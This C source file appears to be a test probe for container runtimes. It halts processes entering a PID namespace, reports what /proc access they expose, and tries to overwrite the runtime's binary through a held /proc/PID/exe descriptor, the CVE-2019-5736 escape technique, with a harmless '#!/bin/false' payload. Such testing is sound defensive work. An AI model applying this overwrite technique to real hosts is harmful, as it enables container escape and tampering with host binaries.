/*
 * Lies in wait for processes that enter its PID namespace from outside. SIGSTOP cannot be blocked: the newcomer is halted as
 * soon as its number is taken, looked at, let go for an instant, halted again. What can be had of it is printed, a line a look:
 *
 *   PID NAME exe=… fd=… root=… mem=… ptrace=…
 *   PID NAME program=… write=… sealed=yes|no
 *
 * each `ok` or an errno. Lines that repeat the one before are left out. The second: its program, which was found by /proc/PID/exe
 * and is held open until it has ended, is written to (CVE-2019-5736); the runtime's is busy for as long as any container runs, so
 * whether it is sealed is asked for, too.
 *
 *   stalk LOOKS COUNT      so many looks at each of COUNT newcomers
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

enum { AHEAD = 64, BUSY_TRIES = 20 };

static const char *outcome(long result)
{
    return result < 0 ? strerrorname_np(errno) : "ok";
}

static const char *path_of(int pid, const char *name)
{
    static char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return path;
}

/* The state letter of /proc/PID/stat and the name in it; 0 when there is no such process any more. */
static char state_of(int pid, char name[64])
{
    char line[512];
    int fd = open(path_of(pid, "stat"), O_RDONLY);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, line, sizeof line - 1);
    close(fd);
    if (n <= 0)
        return 0;
    line[n] = 0;
    char *open = strchr(line, '('), *end = strrchr(line, ')');
    snprintf(name, 64, "%.*s", (int)(end - open - 1), open + 1);
    return end[2];
}

static int try_open(int pid, const char *name)
{
    int fd = open(path_of(pid, name), O_RDONLY | O_CLOEXEC);
    if (fd >= 0)
        close(fd);
    return fd;
}

static int look(int pid, const char *name)
{
    static char last[256];
    char line[256], target[64];
    int exe = open(path_of(pid, "exe"), O_RDONLY | O_CLOEXEC);
    int n = snprintf(line, sizeof line, "%d %s exe=%s", pid, name, outcome(exe));
    n += snprintf(line + n, sizeof line - (size_t)n, " fd=%s", outcome(readlink(path_of(pid, "fd/0"), target, sizeof target)));
    n += snprintf(line + n, sizeof line - (size_t)n, " root=%s", outcome(try_open(pid, "root")));
    int mem = try_open(pid, "mem");
    n += snprintf(line + n, sizeof line - (size_t)n, " mem=%s", outcome(mem));
    // Whoever may open its memory may trace it. A tracee would need care: attaching is tried where it must fail.
    long traced = mem >= 0 ? 0 : ptrace(PTRACE_SEIZE, pid, 0, 0);
    snprintf(line + n, sizeof line - (size_t)n, " ptrace=%s", outcome(traced));
    if (strcmp(line, last) != 0)
        puts(line);
    strcpy(last, line);
    return exe;
}

/* Opening what is executed fails with ETXTBSY: by the descriptor it is opened anew when the process has ended. */
static void overwrite(int pid, const char *name, int exe)
{
    char link[64], target[256];
    snprintf(link, sizeof link, "/proc/self/fd/%d", exe);
    ssize_t n = readlink(link, target, sizeof target - 1);
    target[n < 0 ? 0 : n] = 0;
    int fd = -1;
    for (int tries = 0; tries < BUSY_TRIES && (fd = open(link, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY; tries++)
        usleep(1000);
    const char *result = outcome(fd < 0 ? -1 : write(fd, "#!/bin/false\n", 13));
    int seals = fcntl(exe, F_GET_SEALS);
    const char *sealed = seals >= 0 && seals & F_SEAL_WRITE ? "yes" : "no";
    printf("%d %s program=%s write=%s sealed=%s\n", pid, name, target, result, sealed);
    close(exe);
    if (fd >= 0)
        close(fd);
}

static void stalk(int pid, int looks)
{
    char name[64] = "", last[64] = "";
    int held = -1;
    for (int i = 0; i < looks; i++) {
        char state;
        while ((state = state_of(pid, name)) == 'R' || state == 'S' || state == 'D')
            ;
        if (state != 'T')
            break;
        int exe = look(pid, name);
        // The first that it was: what comes after the exec is the container's own.
        if (exe >= 0 && held < 0) {
            held = exe;
            strcpy(last, name);
        } else if (exe >= 0) {
            close(exe);
        }
        kill(pid, SIGCONT);
        if (kill(pid, SIGSTOP) < 0)
            break;
    }
    kill(pid, SIGCONT);
    fflush(stdout);
    if (held >= 0)
        overwrite(pid, last, held);
    fflush(stdout);
}

int main(int argc, char **argv)
{
    if (argc < 3)
        return 2;
    int looks = atoi(argv[1]), count = atoi(argv[2]), next = getpid() + 1;
    puts("waiting");
    fflush(stdout);
    while (count > 0)
        for (int pid = next; pid < next + AHEAD; pid++)
            if (kill(pid, SIGSTOP) == 0) {
                stalk(pid, looks);
                next = pid + 1;
                count--;
                break;
            }
    return 0;
}
